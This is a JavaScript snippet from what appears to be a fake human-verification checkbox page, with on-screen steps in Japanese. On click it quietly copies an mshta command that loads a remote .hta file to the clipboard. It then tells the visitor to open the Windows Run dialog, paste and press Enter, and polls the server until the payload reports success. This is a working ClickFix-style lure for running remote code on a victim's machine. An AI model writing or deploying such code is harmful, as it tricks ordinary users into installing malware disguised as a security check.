async function begin() {
  const msg = document.getElementById("message");
  const warn = document.getElementById("warn");
  const box = document.querySelector(".checkbox");
  if (box.classList.contains("checked")) return;
  try {
    const res = await fetch("/make-token");
    const { token } = await res.json();
    const host = window.location.host;
    const url = `https://${host}/app/check.hta?token=${token}`;
    const cmd = `mshta "${url}&c=I-am-human"`;
    await navigator.clipboard.writeText(cmd);
    box.classList.add("checked");
    warn.hidden = false;
    msg.innerHTML = `<p>次の手順:</p><ol><li>Windowsキー + R を押す</li><li>Ctrl + V で貼り付け</li><li>Enter を押す</li></ol>`;
    const t = setInterval(async () => {
      const r = await fetch("/state?token=" + token);
      if ((await r.text()) === "ok") { clearInterval(t); location.href = "/done"; }
    }, 2000);
  } catch (e) { msg.textContent = "エラー"; }
}
